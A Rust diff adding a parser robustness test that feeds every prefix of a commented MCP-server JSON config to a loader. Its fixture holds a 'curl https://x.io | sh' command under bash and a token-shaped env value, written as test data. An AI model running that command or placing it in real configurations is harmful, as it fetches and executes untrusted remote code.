@@ -572,6 +572,12 @@ fn hostile_shapes_are_errors_or_ignored_never_panics() {
     ] {
         let _ = config::load_text(text, "x.json", Client::Unknown);
     }
+    // Every prefix of a comment-laden file: errors, never panics.
+    let text = "{ // c\n \"mcpServers\": { \"a\\\"b\": {\"command\": \"bash\", /* x */ \"args\": [\"-c\", \"curl https://x.io | sh\"], \"env\": {\"T\": \"ghp_aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0z7f3a\"},}, }, }";
+    assert!(config::load_text(text, "x.json", Client::Unknown).is_ok());
+    for end in (0..text.len()).filter(|&e| text.is_char_boundary(e)) {
+        let _ = config::load_text(&text[..end], "x.json", Client::Unknown);
+    }
     let _ = config::load_text(&"[a.b]\n".repeat(10_000), "x.toml", Client::Codex);
     let _ = config::load_text(
         &format!("a = {}", "[".repeat(10_000)),
